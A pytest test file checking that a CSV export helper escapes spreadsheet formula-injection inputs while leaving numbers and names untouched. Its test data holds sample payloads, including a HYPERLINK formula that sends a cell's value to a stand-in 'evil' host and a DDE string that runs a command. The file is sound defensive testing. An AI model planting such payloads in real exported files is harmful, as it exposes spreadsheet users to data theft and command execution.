"""CSV and FOCUS cells are safe to open in a spreadsheet; numbers stay numbers."""

from __future__ import annotations

import pytest

from gpupipe_consumers.report.formats import csv_cell


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://evil/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"],
)
def test_formulas_become_text(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-1.25", "+3", "-0.5e-3", "12", "team-a", "", "GPU-1"])
def test_numbers_and_names_are_left_alone(value: str) -> None:
    assert csv_cell(value) == value
